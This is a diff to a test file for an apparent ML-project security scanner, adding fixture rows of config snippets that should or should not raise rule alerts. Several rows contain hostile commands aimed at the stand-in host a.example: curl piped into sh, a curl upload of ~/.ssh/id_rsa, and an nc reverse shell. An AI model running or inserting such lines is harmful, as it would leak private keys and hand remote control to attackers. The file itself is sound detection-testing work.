@@ -59,6 +59,9 @@ const told: readonly Row[] = [
   ['a start-up file', 'a.pth', 'import x; x.go()\n', 'MRL-PYC-007 high'],
   ['a profile', '.Rprofile', "system('echo inert')\n", 'MRL-PYC-002 high'],
   ['a container', 'Dockerfile', 'RUN curl http://a.example/i | sh\n', 'MRL-PYC-002 high'],
+  ['a container', 'Dockerfile', 'RUN curl https://a.example/i | sh\n', 'MRL-PYC-002 medium'],
+  ['a way out', 'dvc.yaml', 'cmd: curl -T ~/.ssh/id_rsa https://a.example\n', 'MRL-CFG-002 high'],
+  ['a way in', 'Dockerfile', 'RUN nc -e /bin/sh a.example 99\n', 'MRL-PYC-002 high'],
   ['a download', 'Dockerfile', 'ADD https://a.example/x /x\n', 'MRL-REQ-001 medium'],
   ['a service', 'docker-compose.yml', 'a:\n  privileged: true\n', 'MRL-CFG-004 medium'],
   ['a server', 'config.properties', 'allowed_urls=.*\n', 'MRL-CFG-004 medium'],
@@ -99,6 +102,14 @@ const harmless: readonly (readonly [string, string, string | object])[] = [
   ['an index', 'env.yml', '- pip:\n  - --extra-index-url https://download.pytorch.org/whl\n'],
   ['a profile', '.Rprofile', 'options(digits = 4)\n# system("x")\n'],
   ['a container', 'Dockerfile', 'FROM python:3.12\nRUN pip install torch\nADD . /app\n'],
+  [
+    'housekeeping',
+    'Dockerfile',
+    'RUN apt-get update && apt-get install -y git && rm -rf /var/lib/apt/lists/*\n' +
+      'RUN curl -Lo /tini https://a.example/tini && chmod +x /tini\n' +
+      'RUN curl -f https://a.example/key -o /etc/apt/keyrings/a.gpg\n' +
+      'RUN chmod g=u /etc/passwd && chmod -R 777 /cache\n',
+  ],
   ['a service', 'docker-compose.yml', 'a:\n  image: x\n  volumes: ["./data:/data"]\n'],
   ['a server', 'config.properties', 'inference_address=http://0.0.0.0:8080\n'],
   ['a page', 'card.html', "<script>document.title = 'A model'</script><img src='a.png'>"],
